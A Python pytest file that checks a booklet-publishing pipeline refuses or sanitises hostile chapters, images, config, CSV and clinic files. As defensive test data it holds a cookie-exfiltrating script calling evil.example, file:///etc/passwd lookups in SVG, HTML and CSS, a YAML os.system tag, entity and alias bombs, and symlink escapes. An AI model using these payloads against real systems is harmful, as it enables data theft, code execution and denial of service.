"""Hostile input ends in a clear `path:line: message` error or a safe render.

Never a traceback, never a hang: every case runs under a time limit, and
`BOOKLET_TIMES=1 pytest tests/test_hostile.py` prints how long each took.
Chapters are
pasted from the web and clinic and request files come from outside, so
nothing in them may read files outside the project, reach the network, run
code, or destroy a good output.
"""

from __future__ import annotations

import os
import shutil
import signal
import socket
import struct
import time
import zlib
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from urllib.parse import quote

import pytest
from conftest import BOOKS, copy_project
from pypdf import PdfReader

from pipeline.cli import main
from pipeline.convert import convert
from pipeline.fonts import shipped_faces
from pipeline.model import PROJECT_URL, BookletError, Part
from pipeline.sources import read_chapter
from pipeline.templates import Templates
from pipeline.typeset import typeset

FRONT = b"---\ntitle: Hostile\nlast_reviewed: 2026-10-01\n---\n\n"  # the body starts on line 6
LIMIT_S = 60
TIMES: list[tuple[str, float]] = []  # (case, seconds), printed at the end with BOOKLET_TIMES=1


@pytest.fixture(autouse=True, scope="module")
def print_times(request: pytest.FixtureRequest) -> Iterator[None]:
    yield
    if os.environ.get("BOOKLET_TIMES"):
        plugins = request.config.pluginmanager
        with plugins.get_plugin("capturemanager").global_and_fixture_disabled():
            print("\nhostile input | seconds")
            for name, seconds in TIMES:
                print(f"{name} | {seconds:.2f}")


@contextmanager
def time_limit(name: str, seconds: float = LIMIT_S) -> Iterator[None]:
    """Fail (instead of hanging) past `seconds`; note how long it took."""

    def expired(signum: int, frame: object) -> None:
        raise TimeoutError(f"{name}: still running after {seconds} s")

    previous = signal.signal(signal.SIGALRM, expired)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    started = time.perf_counter()
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)
        TIMES.append((name, time.perf_counter() - started))


def one_chapter(root: Path, body: bytes, front: bytes = FRONT) -> Path:
    """A project with the repo's styles, the fixture's image and one chapter."""
    copy_project(root, None)
    shutil.copytree(BOOKS / "basic" / "images", root / "images")
    config = (BOOKS / "basic" / "booklet.toml").read_text(encoding="utf-8")
    config = config.replace('["01-alpha.md", "02-beta.md", "03-gamma.md"]', '["01-x.md"]')
    (root / "booklet.toml").write_text(config, encoding="utf-8")
    (root / "chapters").mkdir()
    (root / "chapters" / "01-x.md").write_bytes(front + body)
    return root


def run(root: Path, capsys: pytest.CaptureFixture[str], name: str, *command: str
        ) -> tuple[int, list[str]]:
    with time_limit(name):
        status = main(["-C", str(root), "-q", *(command or ("build", "-j", "1"))])
    err = capsys.readouterr().err
    assert "Traceback" not in err
    return status, [line for line in err.splitlines() if line.strip()]


def assert_refused(root: Path, status: int, lines: list[str], expected: str) -> None:
    assert status == 1, lines
    assert expected in lines, lines
    assert lines[-1].endswith("nothing was written")
    assert not (root / "output" / "guide.pdf").exists()


# --- bad chapters -----------------------------------------------------------------------


def _png(width: int, height: int) -> bytes:
    """A valid 1-bit PNG of the given size (all black: it compresses to almost nothing)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))

    row = b"\0" * (1 + (width + 7) // 8)
    pixels = zlib.compressobj(9)
    data = b"".join(pixels.compress(row) for _ in range(height)) + pixels.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data)
            + chunk(b"IEND", b""))


LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {b} "{("&" + a + ";") * 10}">'
              for a, b in zip("abcdefgh", "bcdefghi", strict=True))
    + ']><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><text>&i;</text></svg>'
)
YAML_BOMB = "\n".join(
    ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    + [f"{b}: &{b} [{','.join(['*' + a] * 9)}]"
       for a, b in zip("abcdefgh", "bcdefghi", strict=True)]
)

# name -> (chapter body, files to add, the expected first line)
BAD_CHAPTERS: dict[str, tuple[bytes, dict[str, bytes], str]] = {
    "invalid UTF-8": (
        b"Caf\xe9 au lait.\n", {},
        "chapters/01-x.md:6: not valid UTF-8 text (save the file as UTF-8)"),
    "NUL byte": (
        b"Before\x00after.\n", {},
        "chapters/01-x.md:6: NUL U+0000 in the text (column 7) "
        "(remove it; 'booklet import' cleans pasted text)"),
    "5 MB chapter": (
        b"Words and more words.\n\n" * (5_000_000 // 23), {},
        "chapters/01-x.md: chapter is 5 MB, over the 500 KB limit for one chapter "
        "(split it into several chapters)"),
    "table of 2,000 rows": (
        b"| Drug | Dose |\n|---|---|\n"
        + b"".join(b"| drug %d | %d mg |\n" % (i, i) for i in range(2000)), {},
        "chapters/01-x.md:6: a table of 2001 rows, over the limit of 500 (split it into "
        "several tables, or move the data to a separate document)"),
    "lists nested 500 deep": (
        b"".join(b"\t" * i + b"- item %d\n" % i for i in range(500)), {},
        "chapters/01-x.md:17: nested 11 levels deep (lists, quotes or call-outs inside each "
        "other), over the limit of 10 (flatten the list, or split it into several)"),
    "quotes nested 500 deep": (
        b"> " * 500 + b"deep\n", {},
        "chapters/01-x.md:6: nested 500 levels deep (lists, quotes or call-outs inside each "
        "other), over the limit of 10 (flatten the list, or split it into several)"),
    "HTML nested 500 deep": (
        b"<div>\n" * 500 + b"deep\n" + b"</div>\n" * 500, {},
        "chapters/01-x.md:6: HTML nested 500 elements deep, over the limit of 60 (write it in "
        "Markdown, or nest less)"),
    "100,000-character word": (
        b"A word: " + b"x" * 100_000 + b".\n", {},
        "chapters/01-x.md:6: a word of 100,001 characters with no space, over the limit of "
        "1,000 (add spaces; link a long address instead of printing it)"),
    "50,000 unclosed '[' in a paragraph": (
        b"[ " * 50_000 + b"\n", {},
        "chapters/01-x.md:6: a paragraph of 100,000 characters, over the limit of 5,000 "
        "(split it, or close the brackets)"),
    "2,400 unclosed '[' in 4,800 characters": (
        b"[ " * 2_400 + b"\n", {},
        "chapters/01-x.md:6: a paragraph with 2400 '[' and '<', over the limit of 200 "
        "(split it, or close the brackets)"),
    "4,000 call-out boxes": (
        b"!!! note\n    Boxed.\n\n" * 4_000, {},
        "chapters/01-x.md:5: a chapter of 12,000 HTML elements (paragraphs, headings, list "
        "items, cells...), over the limit of 10,000 (split it into several chapters)"),
    "600 definitions without a blank line": (
        b"Term\n:   Meaning\n" * 600, {},
        "chapters/01-x.md:5: the chapter is too deeply nested, or has too many list items or "
        "definitions without a blank line between them, to convert (put blank lines between "
        "definitions and list items; nest less)"),
    "truncated PNG": (
        b"Text.\n\n![A diagram](../images/cut.png)\n",
        {"images/cut.png": (BOOKS / "basic" / "images" / "diagram.png").read_bytes()[:400]},
        "chapters/01-x.md:8: image '../images/cut.png' is damaged (image file is truncated) "
        "(export it again as PNG, JPEG or plain SVG, at print size)"),
    "20,000 x 20,000 pixel PNG": (
        b"Text.\n\n![A huge picture](../images/huge.png)\n",
        {"images/huge.png": _png(20000, 20000)},
        "chapters/01-x.md:8: image '../images/huge.png' is 20000 x 20000 pixels, over the limit "
        "of 40 million pixels (export it again as PNG, JPEG or plain SVG, at print size)"),
    "SVG entity bomb": (
        b"Text.\n\n![Laughs](../images/laughs.svg)\n", {"images/laughs.svg": LAUGHS.encode()},
        "chapters/01-x.md:8: image '../images/laughs.svg' declares a DTD or entities (save it "
        "as plain SVG) (export it again as PNG, JPEG or plain SVG, at print size)"),
    "SVG of 10^9 x 10^9 px": (
        b"Text.\n\n![Big](../images/big.svg)\n",
        {"images/big.svg": b'<svg xmlns="http://www.w3.org/2000/svg" width="1e9" '
                           b'height="1e9"><rect width="1e9" height="1e9"/></svg>'},
        "chapters/01-x.md:8: image '../images/big.svg' is 1,000,000,000 px wide, over the "
        "20,000 px limit (export it again as PNG, JPEG or plain SVG, at print size)"),
    "SVG that loads /etc/passwd": (
        b"Text.\n\n![Peek](../images/peek.svg)\n",
        {"images/peek.svg": b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
                            b'<image href="file:///etc/passwd" width="10" height="10"/></svg>'},
        "chapters/01-x.md:8: image '../images/peek.svg' refers to 'file:///etc/passwd' (an SVG "
        "image may refer only to its own parts: embed the picture in it) (export it again as "
        "PNG, JPEG or plain SVG, at print size)"),
    "EPS named .png (Ghostscript)": (
        b"Text.\n\n![Eps](../images/eps.png)\n",
        {"images/eps.png": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\nshowpage\n"},
        "chapters/01-x.md:8: image '../images/eps.png' is not a PNG, JPEG, GIF or WebP image "
        "(export it again as PNG, JPEG or plain SVG, at print size)"),
    "image symlinked out of the project": (
        b"Text.\n\n![Peek](../images/passwd.png)\n", {"images/passwd.png": b"->/etc/passwd"},
        "chapters/01-x.md:8: image '../images/passwd.png' is outside the project (put it under "
        "images/)"),
    "heading that is only an emoji": (
        "## 🎗️\n\nText.\n".encode(), {},
        "chapters/01-x.md:6: heading '🎗️' has no letters or digits (the contents, bookmarks "
        "and links need a heading in words)"),
}


@pytest.mark.parametrize("name", BAD_CHAPTERS)
def test_bad_chapter(
    name: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    body, files, expected = BAD_CHAPTERS[name]
    root = one_chapter(tmp_path / "p", body)
    for relative, data in files.items():
        if data.startswith(b"->"):
            (root / relative).symlink_to(data[2:].decode())
        else:
            (root / relative).write_bytes(data)
    status, lines = run(root, capsys, name)
    assert_refused(root, status, lines, expected)
    status, lines = run(root, capsys, f"{name} (lint)", "lint")
    assert status == 1, lines  # lint reports it too, as an error
    where = expected.split(" ", 1)[0]
    assert any(line.startswith(f"{where} error: ") for line in lines), lines


def test_yaml_bomb_in_front_matter(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    front = f"---\n{YAML_BOMB}\ntitle: *i\nlast_reviewed: 2026-10-01\n---\n\n".encode()
    root = one_chapter(tmp_path / "p", b"Text.\n", front)
    status, lines = run(root, capsys, "YAML alias bomb")
    assert_refused(root, status, lines, "chapters/01-x.md:3: front matter uses a YAML alias "
                                        "'*a' (write the value out in full)")


def test_yaml_tags_construct_nothing(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    marker = tmp_path / "ran"
    front = (f'---\ntitle: !!python/object/apply:os.system ["touch {marker}"]\n'
             "last_reviewed: 2026-10-01\n---\n\n").encode()
    root = one_chapter(tmp_path / "p", b"Text.\n", front)
    status, lines = run(root, capsys, "YAML python tag")
    assert status == 1
    assert lines[0].startswith("chapters/01-x.md:2: malformed front matter: could not "
                               "determine a constructor for the tag "
                               "'tag:yaml.org,2002:python/object/apply:os.system'")
    assert not marker.exists()


def test_config_points_chapters_outside(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "outside.md").write_bytes(FRONT + b"Secret.\n")
    root = one_chapter(tmp_path / "p", b"Text.\n")
    config = root / "booklet.toml"
    config.write_text(config.read_text(encoding="utf-8").replace(
        '["01-x.md"]', '["01-x.md", "../../outside.md", "/etc/passwd"]'), encoding="utf-8")
    status, lines = run(root, capsys, "booklet.toml chapter outside the project")
    assert status == 1
    line = next(n for n, text in enumerate(config.read_text().splitlines(), 1) if "order" in text)
    assert lines[:2] == [
        f"booklet.toml:{line}: chapter '../../outside.md' is outside the project "
        "(chapters must live under chapters/)",
        f"booklet.toml:{line}: chapter '/etc/passwd' is outside the project "
        "(chapters must live under chapters/)",
    ]


def test_symlinked_chapter_outside(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    secret = tmp_path / "secret.md"
    secret.write_bytes(FRONT + b"The neighbour's medical notes.\n")
    root = one_chapter(tmp_path / "p", b"Text.\n")
    (root / "chapters" / "01-x.md").unlink()
    (root / "chapters" / "01-x.md").symlink_to(secret)
    expected = (f"chapters/01-x.md: is a link to '{secret.resolve()}', outside the project "
                "(copy the file into chapters/ instead)")
    status, lines = run(root, capsys, "symlink out of chapters/")
    assert_refused(root, status, lines, expected)
    status, lines = run(root, capsys, "symlink out of chapters/ (lint)", "lint")
    assert status == 1
    assert "medical notes" not in "\n".join(lines)
    assert lines[0].startswith("chapters/01-x.md: error: is a link to")


def test_footnotes_missing_or_unused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    body = b"Cited but never defined.[^gone]\n\nCited.[^here]\n\n[^here]: Here.\n[^spare]: Spare.\n"
    root = one_chapter(tmp_path / "p", body)
    status, lines = run(root, capsys, "footnotes cited and not defined, defined and not cited")
    assert status == 0, lines  # a safe render, with warnings
    assert ("chapters/01-x.md:6:25: warning: footnote [^gone] is cited but never defined: it "
            "prints as '[^gone]' (add a line '[^gone]: ...') [footnote]") in lines
    assert ("chapters/01-x.md:11:1: warning: footnote [^spare] is defined but never cited, so "
            "it is not printed [footnote]") in lines


def test_at_the_limits_renders(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Words as long, lists and quotes as deep as allowed: typeset, whole, in bounded time."""
    word = "y" * 1000
    body = (f"A long word: {word} here.\n\n| What | Where |\n|---|---|\n| a word | {word} |\n"
            f"| a link | [the page](https://example.org/{word[:950]}) |\n\n"
            + "".join("    " * i + f"- item {i}\n" for i in range(10))
            + "\n" + "> " * 10 + "quoted\n").encode()
    root = one_chapter(tmp_path / "p", body)
    status, lines = run(root, capsys, "at the limits: 1,000-character words in a paragraph, "
                                      "a table cell and an address; lists and quotes 10 deep")
    assert status == 0, lines
    pages = PdfReader(root / "output" / "guide.pdf").pages
    text = "".join(page.extract_text() for page in pages).replace("\n", "").replace("\u200b", "")
    # All of it printed, none cut off: the word twice, and the address after the link.
    assert text.count("y" * 20) >= 2 * (1000 // 20) + 950 // 20


# --- raw HTML --------------------------------------------------------------------------

RAW_HTML = """\
Fine <b>bold</b> and <abbr title="human epidermal growth factor receptor 2">HER2</abbr>.

<script>fetch('https://evil.example/?' + document.cookie)</script>

<iframe src="https://evil.example/"></iframe>
<object data="file:///etc/passwd"></object>
<embed src="file:///etc/passwd">

<p onclick="alert(1)" style="background: url(file:///etc/passwd)">Styled</p>

<a href="javascript:alert(1)">Click</a>

<style>@import url("file:///etc/passwd"); p { background: url(https://evil.example/x.png) }</style>

<link rel="attachment" href="file:///etc/passwd">
<img src="file:///etc/passwd" alt="peek"><img src="https://evil.example/t.png" alt="track">

## Heading {: onmouseover="x" }
"""


def test_raw_html_is_sanitised(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], no_network: list[str]
) -> None:
    root = one_chapter(tmp_path / "p", RAW_HTML.encode())
    converted = convert(read_chapter(root / "chapters" / "01-x.md", "x", root), root)
    html = converted.html.lower()
    for gone in ("<script", "<iframe", "<object", "<embed", "<style", "<link", "onclick",
                 "onmouseover", "javascript:", "etc/passwd", "evil.example", "background"):
        assert gone not in html, gone
    assert "<b>bold</b>" in html and "<abbr title=" in html
    status, lines = run(root, capsys, "raw HTML: script, iframe, object, embed, events, "
                                      "javascript:, style, link, img")
    assert status == 0, lines  # removed with warnings; the book is made
    removed = {line for line in lines if "removed" in line and line.endswith("[raw-html]")}
    for expected in [
        "chapters/01-x.md:8: warning: raw HTML <script> removed with its content",
        "chapters/01-x.md:10: warning: raw HTML <iframe> removed with its content",
        "chapters/01-x.md:11: warning: raw HTML <object> removed with its content",
        "chapters/01-x.md:12: warning: raw HTML <embed> removed with its content",
        "chapters/01-x.md:14: warning: attribute 'onclick' removed from <p>: event attributes "
        "never pass through",
        "chapters/01-x.md:14: warning: attribute 'style' removed from <p>: styles come from "
        "styles/book.css, not from chapters",
        "chapters/01-x.md:16: warning: href='javascript:alert(1)' removed from <a>",
        "chapters/01-x.md:18: warning: raw HTML <style> removed with its content",
        "chapters/01-x.md:20: warning: raw HTML <link> removed",
        "chapters/01-x.md:21: warning: src='file:///etc/passwd' removed from <img>",
        "chapters/01-x.md:21: warning: src='https://evil.example/t.png' removed from <img>",
        "chapters/01-x.md:23: warning: attribute 'onmouseover' removed from <h2>",
    ]:
        assert any(line.startswith(expected) for line in removed), (expected, removed)
    assert not no_network  # the whole build, and nothing reached for the network


def test_no_template_runs_author_text(tmp_path: Path) -> None:
    body = b"Sum: {{ 7 * 7 }} and {% for x in range(3) %}{{ x }}{% endfor %} {{ book.root }}\n"
    root = one_chapter(tmp_path / "p", body)
    chapter = read_chapter(root / "chapters" / "01-x.md", "x", root)
    converted = convert(chapter, root)
    from pipeline.config import load_config

    part = Templates(load_config(root), shipped_faces(root / "styles" / "fonts")).chapter(
        converted, [converted])
    assert "{{ 7 * 7 }}" in part.html and "{% for x in range(3) %}" in part.html
    assert "49" not in part.html and str(root) not in part.html


# --- the sandboxed fetcher ---------------------------------------------------------------


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Any attempt to open a socket or resolve a name fails the test (and is recorded)."""
    attempts: list[str] = []

    def refuse(*args: object, **kwargs: object) -> None:
        attempts.append(repr(args))
        raise AssertionError(f"network access attempted: {args!r}")

    monkeypatch.setattr(socket, "socket", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    return attempts


def _part(root: Path, html_body: str, source_text: str) -> Part:
    """A document that asks for something, blamed on a chapter that says so on line 8."""
    source = root / "chapters" / "01-x.md"
    source.write_text(FRONT.decode() + "Text.\n\n" + source_text + "\n", encoding="utf-8")
    html = (f'<html><head><link rel="stylesheet" href="{PROJECT_URL}styles/book.css"></head>'
            f"<body><p>Text.</p>{html_body}</body></html>")
    return Part("x", html, source, PROJECT_URL)


SVG_PEEK = quote('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
                 '<image href="file:///etc/passwd" width="10" height="10"/></svg>')
BIG_DATA = "data:image/png;base64," + "A" * 100_000

# name -> (the HTML, what it says in the chapter, the refusal)
FETCHES = {
    "file:///etc/passwd": (
        '<img src="file:///etc/passwd">', "file:///etc/passwd",
        "'file:///etc/passwd': is not a file in the project"),
    "../../ out of the project": (
        '<img src="../../../../etc/passwd">', "../../../../etc/passwd",
        "'file:///etc/passwd': is not a file in the project"),
    "project URL with ../": (
        f'<img src="{PROJECT_URL}images/../../../etc/passwd">',
        f"{PROJECT_URL}images/../../../etc/passwd",
        f"'{PROJECT_URL}images/../../../etc/passwd': is outside the project"),
    "https://": (
        '<img src="https://example.org/pixel.png">', "https://example.org/pixel.png",
        "'https://example.org/pixel.png': the book never loads anything from the network "
        "(download the file into the project)"),
    "http:// stylesheet": (
        '<link rel="stylesheet" href="http://example.org/x.css">', "http://example.org/x.css",
        "'http://example.org/x.css': the book never loads anything from the network "
        "(download the file into the project)"),
    "data: over the limit": (
        f'<img src="{BIG_DATA}">', BIG_DATA[:60],
        f"'{BIG_DATA[:60]}…': a data: URL of 100 KB, over the 64 KB limit"),
    "<link rel=attachment>": (
        f'<link rel="attachment" href="{PROJECT_URL}chapters/01-x.md">',
        f"{PROJECT_URL}chapters/01-x.md",
        f"'{PROJECT_URL}chapters/01-x.md': is not a stylesheet, font or image (nothing else "
        "is loaded or attached)"),
    "<a rel=attachment> to /etc/passwd": (
        '<a rel="attachment" href="file:///etc/passwd">x</a>', "file:///etc/passwd",
        "'file:///etc/passwd': is not a file in the project"),
    "CSS @import outside": (
        '<style>@import url("file:///etc/passwd");</style>', "file:///etc/passwd",
        "'file:///etc/passwd': is not a file in the project"),
    "CSS url() to the web": (
        '<style>p { background: url(https://example.org/t.png) }</style>',
        "https://example.org/t.png",
        "'https://example.org/t.png': the book never loads anything from the network "
        "(download the file into the project)"),
    "a machine font through local()": (
        '<style>@font-face { font-family: M; src: local("DejaVu Sans"), '
        'url(file:///usr/share/fonts/x.ttf) } p { font-family: M }</style>',
        "file:///usr/share/fonts/x.ttf", "is not a file in the project"),
    "SVG image that loads /etc/passwd": (
        f'<img src="data:image/svg+xml,{SVG_PEEK}">', "data:image/svg+xml",
        "the image refers to 'file:///etc/passwd'"),
}


@pytest.mark.parametrize("name", FETCHES)
def test_fetcher_refuses(name: str, tmp_path: Path, no_network: list[str]) -> None:
    html, source_text, refusal = FETCHES[name]
    root = one_chapter(tmp_path / "p", b"Text.\n")
    with time_limit(f"fetch: {name}"), pytest.raises(BookletError) as caught:
        typeset(_part(root, html, source_text), root)
    problem = caught.value.problems[0]
    assert problem.message.startswith("refused to load ")
    assert refusal in problem.message, problem.message
    if "local()" not in name:
        assert (problem.path, problem.line) == ("chapters/01-x.md", 8), str(problem)
    assert not no_network


def test_fetcher_serves_the_project(tmp_path: Path, no_network: list[str]) -> None:
    root = one_chapter(tmp_path / "p", b"Text.\n")
    small = ("data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' width='4' "
             "height='4'%3E%3Crect width='4' height='4'/%3E%3C/svg%3E")
    html = (f'<img src="{PROJECT_URL}images/diagram.png" alt="d"><img src="{small}" alt="s">'
            f'<img src="images/diagram.png" alt="relative">')
    rendered = typeset(_part(root, html, "fine"), root)
    assert rendered.page_count == 1
    assert not no_network


def test_symlink_out_of_the_project_is_refused(tmp_path: Path) -> None:
    root = one_chapter(tmp_path / "p", b"Text.\n")
    (root / "images" / "secret.png").symlink_to(root / "images" / "diagram.png")  # inside: ok
    (root / "styles" / "leak.css").symlink_to("/etc/passwd")
    html = f'<link rel="stylesheet" href="{PROJECT_URL}styles/leak.css">'
    with pytest.raises(BookletError) as caught:
        typeset(_part(root, html, "styles/leak.css"), root)
    assert f"'{PROJECT_URL}styles/leak.css': is outside the project" in str(caught.value)


# --- other commands --------------------------------------------------------------------


def test_import_cleans_control_characters_and_limits_size(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    root = one_chapter(tmp_path / "p", b"Text.\n")
    pasted = tmp_path / "pasted.txt"
    pasted.write_bytes(b"Skin care\n\nLine one\x0bline two\x00 and a bell\x07.\n")
    status, lines = run(root, capsys, "import: control characters",
                        "import", str(pasted), "--to", str(root / "chapters" / "02-skin.md"))
    assert status == 0, lines
    text = (root / "chapters" / "02-skin.md").read_text(encoding="utf-8")
    assert "line two and a bell." in text
    assert not any(c in text for c in "\x00\x07\x0b")
    huge = tmp_path / "huge.html"
    huge.write_bytes(b"<p>" + b"word " * 1_200_000 + b"</p>")
    status, lines = run(root, capsys, "import: 6 MB", "import", str(huge))
    assert status == 1
    assert lines[0] == (f"{huge}: is 6 MB, over the 5 MB limit for one import (split it first)")


def test_handouts_refuse_a_bad_chapter(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    front = FRONT.replace(b"---\n\n", b"handout: true\n---\n\n")
    root = one_chapter(tmp_path / "p", b"".join(b"    " * i + b"- x\n" for i in range(50)), front)
    status, lines = run(root, capsys, "handouts: lists nested 50 deep", "handouts",
                        "--chapter", "x")
    assert status == 1
    assert lines[0].startswith("chapters/01-x.md:18: nested 11 levels deep")
    assert not (root / "output" / "handouts").exists()



def test_requests_rows_with_hostile_cells_are_rejected(tmp_path: Path) -> None:
    from pipeline.requests import read_requests

    word = "w" * 1500
    path = tmp_path / "requests.csv"
    path.write_text(
        "request_id,name,address,country,note\n"
        "R1,Ann\x00Lee,1 Main St,US,\n"
        f"R2,Bo Chen,1 Main St,US,{'a long note ' * 300}\n"
        f"R3,Cy Diaz,{word},US,\n"
        "R4,Di Eze,2 Main St,US,Fine\n", encoding="utf-8")
    with time_limit("requests CSV: NUL, 3,600-character note, 1,500-character word"):
        requests, rejected = read_requests(path, ("letter", "a4"))
    assert [r.request_id for r in requests] == ["R4"]
    assert [(r.row, r.reason) for r in rejected] == [
        (2, "the name has a control character in it"),
        (3, "the note is over 2,000 characters long"),
        (4, "the address has a word of more than 1,000 characters"),
    ]
    with path.open("r+b") as stream:
        stream.truncate(21_000_000)  # sparse: nothing is written
    with pytest.raises(BookletError, match="is 21 MB, over the 20 MB limit"):
        read_requests(path, ("letter", "a4"))


def test_clinic_files_from_outside(tmp_path: Path) -> None:
    from pipeline.clinics import load_clinic

    root = one_chapter(tmp_path / "p", b"Text.\n")
    (root / "clinics").mkdir()
    clinic = root / "clinics" / "long.toml"
    clinic.write_text(f'name = "{"n" * 1500}"\nphone = "555\\u0007"\n', encoding="utf-8")
    with time_limit("clinic file: 1,500-character word, control character"), \
            pytest.raises(BookletError) as caught:
        load_clinic(clinic, root)
    assert [str(p) for p in caught.value.problems] == [
        "clinics/long.toml:1: 'name' has a word of more than 1,000 characters with no space",
        "clinics/long.toml:2: 'phone' has a control character in it",
    ]
    (tmp_path / "outside.toml").write_text('name = "X"\nphone = "1"\n', encoding="utf-8")
    (root / "clinics" / "out.toml").symlink_to(tmp_path / "outside.toml")
    with pytest.raises(BookletError, match="is a link to a file outside the project"):
        load_clinic(root / "clinics" / "out.toml", root)


def test_a_refusal_in_a_stylesheet_names_its_line(tmp_path: Path, no_network: list[str]) -> None:
    root = one_chapter(tmp_path / "p", b"Text.\n")
    (root / "styles" / "extra.css").write_text(
        "/* Extra styles. */\n\n@import url('https://fonts.example.org/font.css');\n",
        encoding="utf-8")
    html = f'<link rel="stylesheet" href="{PROJECT_URL}styles/extra.css">'
    with pytest.raises(BookletError) as caught:
        typeset(_part(root, html, "Nothing here."), root)
    assert str(caught.value) == (
        "styles/extra.css:3: refused to load 'https://fonts.example.org/font.css': the book "
        "never loads anything from the network (download the file into the project)")
    assert not no_network
